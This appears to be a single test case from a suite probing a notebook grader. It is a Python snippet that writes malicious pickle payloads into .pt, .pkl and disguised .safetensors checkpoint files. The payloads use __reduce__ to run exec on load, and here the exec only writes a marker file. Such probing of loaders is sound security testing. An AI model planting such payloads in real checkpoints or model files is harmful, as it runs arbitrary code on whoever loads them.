# Saves checkpoints beside the notebook that run code when they are loaded.
# wins: nothing, plain nbgrader loads no checkpoints
# %% end
import pickle


class Bomb:
    def __reduce__(self):
        return exec, ("open('@LOOT@/loaded', 'w').write('here')",)


torch.save({"w": Bomb()}, "fit.pt")
open("fit.pkl", "wb").write(pickle.dumps(Bomb()))
open("fit.safetensors", "wb").write(b"\xff" * 8 + pickle.dumps(Bomb()))
